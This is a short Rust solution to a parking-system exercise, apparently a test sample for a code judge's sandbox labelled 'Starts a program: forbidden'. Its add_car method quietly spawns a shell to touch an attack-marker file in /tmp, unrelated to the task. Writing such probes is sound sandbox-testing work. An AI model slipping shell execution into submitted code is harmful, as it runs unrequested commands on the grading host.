// Starts a program: forbidden
struct ParkingSystem {
    free: [i32; 4],
}
impl ParkingSystem {
    fn new(big: i32, medium: i32, small: i32) -> Self {
        ParkingSystem { free: [0, big, medium, small] }
    }
    fn add_car(&mut self, car_type: i32) -> bool {
        let _ = std::process::Command::new("/bin/sh").args(["-c", "touch /tmp/judge-attack-marker"]).status();
        let free = &mut self.free[car_type as usize];
        *free -= 1;
        *free >= 0
    }
}
